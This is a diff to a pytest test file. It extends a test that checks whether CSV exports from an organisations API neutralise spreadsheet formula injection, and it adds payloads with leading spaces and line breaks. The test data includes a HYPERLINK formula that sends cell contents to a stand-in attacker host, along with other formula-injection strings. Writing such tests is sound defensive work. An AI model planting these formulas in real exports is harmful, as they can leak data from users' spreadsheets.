@@ -98,7 +98,11 @@ def test_csv_export_is_every_row_not_one_page(world, api):
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
-@pytest.mark.parametrize("dangerous", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+@pytest.mark.parametrize(
+    "dangerous",
+    # Spreadsheets skip leading spaces and line breaks before a formula.
+    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", " =1+1", "\n=1+1", "  \n @SUM(A1)"],
+)
 def test_formula_cells_come_out_inert(dangerous, world, api):
     factories.OrganisationFactory(name=dangerous, nation=world.nations["GBR"])
     rows = csv_rows(api, "/api/v1/organisations/", {"ordering": "name"})
